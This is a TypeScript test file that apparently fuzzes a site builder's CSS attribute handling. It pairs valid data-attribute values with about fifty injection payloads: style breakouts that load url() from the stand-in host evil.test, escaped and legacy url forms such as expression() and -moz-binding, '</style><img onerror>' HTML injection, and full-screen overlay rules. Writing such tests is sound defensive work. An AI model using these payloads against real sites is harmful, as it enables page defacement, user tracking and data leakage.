import { spread } from '../../thorough.ts'
import type { Attempt } from './attempt.ts'

/** Values that would be more than the one value they stand for, each with a beginning that is right. */
const payloads = [
  ';background:url(https://evil.test/§)',
  ';background-image:url(https://evil.test/§);',
  ';}*{background:url(https://evil.test/§)}',
  '}*{background:url(https://evil.test/§)}a{',
  '"}*{background:url(https://evil.test/§)}',
  "'}*{background:url(https://evil.test/§)}",
  ')}*{background:url(https://evil.test/§)}',
  ') url(https://evil.test/§',
  '),url(https://evil.test/§)',
  '"),url("https://evil.test/§',
  "'),url('https://evil.test/§",
  '\\"),url(https://evil.test/§)',
  '\\"\\),url\\(https://evil.test/§',
  '\n),url(https://evil.test/§)',
  '\r\n;background:url(https://evil.test/§)',
  '\f;background:url(https://evil.test/§)',
  '\0;background:url(https://evil.test/§)',
  '/**/;background:url(https://evil.test/§)',
  '/*',
  '*/;background:url(https://evil.test/§)/*',
  '<!--;background:url(https://evil.test/§)',
  '</style><img src=x onerror=trip(§)>',
  '"><img src=x onerror=trip(§)>',
  ' url(https://evil.test/§)',
  ',url(https://evil.test/§)',
  ' \\75rl(https://evil.test/§)',
  ' \\000075 rl(https://evil.test/§)',
  ' URL(https://evil.test/§)',
  ' image(url(https://evil.test/§))',
  ' image-set("https://evil.test/§" 1x)',
  ' -webkit-image-set(url(https://evil.test/§) 1x)',
  ' cross-fade(url(https://evil.test/§),url(x),50%)',
  ' src("https://evil.test/§")',
  ' element(#x)',
  ' paint(x)',
  ' attr(src type(<url>))',
  ' var(--x,url(https://evil.test/§))',
  ' env(x,url(https://evil.test/§))',
  ';@import "https://evil.test/§"',
  ';--site-accent:url(https://evil.test/§)',
  ';behavior:url(https://evil.test/§)',
  ';-moz-binding:url(https://evil.test/§#x)',
  ' expression(trip(§))',
  ';position:fixed;inset:0;z-index:99999',
  ' !important;position:fixed',
  ';content:"x";display:block',
  '%;background:url(https://evil.test/§)',
  'px;background:url(https://evil.test/§)',
] as const

/** Attributes that end as a value of a style, with a value of theirs that is right. */
export const styled = [
  ['image', 'data-image-dimensions', '1500x1000'],
  ['image', 'data-image-focal-point', '0.5,0.3'],
  ['image', 'data-mode', 'cover'],
  ['image', 'data-fit-alignment', 'top'],
  ['background', 'data-src', 'images/porto.svg'],
  ['background', 'data-image-focal-point', '0.5,0.3'],
  ['background', 'data-mode', 'contain'],
  ['gallery', 'data-image-aspect-ratio', '1.5'],
  ['gallery', 'data-aspect-ratio', '50'],
  ['gallery', 'data-gutter', '10'],
  ['gallery', 'data-padding', '20'],
  ['gallery', 'data-column-width', '250'],
  ['gallery', 'data-row-height', '250'],
  ['gallery', 'data-v-size', '10'],
  ['gallery', 'data-height', 'ratio'],
  ['gallery', 'data-list-image-size', '30'],
  ['gallery', 'data-thumbnail-strip-height', '100'],
  ['gallery', 'data-thumbnail-strip-margin', '30'],
  ['video', 'data-ratio', '56'],
  ['video', 'data-filter', 'sepia'],
  ['video', 'data-filter-strength', '50'],
  ['video', 'data-html', '<iframe src="https://youtu.be/fornofilm01" width="640" height="360'],
  // The markup of other builders: the value stands for every number in their JSON.
  ['masonry', 'data-props', '10vw'],
  ['reel', 'data-props', '10vw'],
  ['slideshow', 'data-block-json', '50'],
  ['summary', 'data-block-json', '1.5'],
  ['list', 'data-space-between-slides-value', '30'],
  ['list', 'data-layout-width', 'inset'],
] as const

export interface StyleAttack {
  readonly kind: (typeof styled)[number][0]
  readonly name: string
  readonly value: string
}

export const styles: readonly StyleAttack[] = payloads
  .flatMap(payload => styled.map(([kind, name, right]) => ({ kind, name, value: right + payload })))
  .map((attack, i) => ({ ...attack, value: attack.value.replaceAll('§', `${i}`) }))

/** No multiple of the tables' lengths, so that everything in them has its turn. */
export const fewStyles = 241

export const styleAttempt: Attempt = {
  what: `styles: ${payloads.length} values in ${styled.length} settings`,
  few: spread(styles, fewStyles).length,
  all: styles.length,
  result: 'no second declaration, no address but that of the picture',
}
